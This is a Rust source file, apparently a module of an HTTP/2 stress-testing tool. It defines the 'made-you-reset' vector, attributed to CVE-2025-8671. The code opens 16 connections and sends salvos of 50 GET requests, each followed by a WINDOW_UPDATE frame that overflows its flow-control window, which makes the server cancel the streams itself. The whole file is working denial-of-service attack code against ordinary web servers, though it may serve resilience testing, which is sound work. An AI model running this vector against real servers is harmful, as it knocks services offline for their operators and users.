//! `made-you-reset`: requests that break a rule after they have begun, so that the server cancels
//! them itself

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{WINDOW_UPDATE, frame, get},
};

pub(super) const VECTOR: Vector = Vector {
    name: "made-you-reset",
    family: Family::Http2,
    models: "requests that break a rule after they have begun, so that the server cancels \
        them itself",
    source: "CVE-2025-8671 (Gal Bar Nahum, 2025), by a window that overflows",
    parameters: "16 connections; 50 requests in a write, each followed by a WINDOW_UPDATE that \
        overflows its window",
    resource: Resource::Streams,
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner = Manner { connections: 16, settings: &[], salvo, counts_resets: true };

fn salvo(front: &Front, turn: u32) -> Option<Salvo> {
    let mut bytes = Vec::new();
    for place in 0..50 {
        let stream = turn.checked_mul(100)?.checked_add(place * 2 + 1)?;
        bytes.extend(get(stream, "/api/v1/timelines/public", &front.scene.host));
        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()));
    }
    Some(Salvo { bytes, offers: 50 })
}
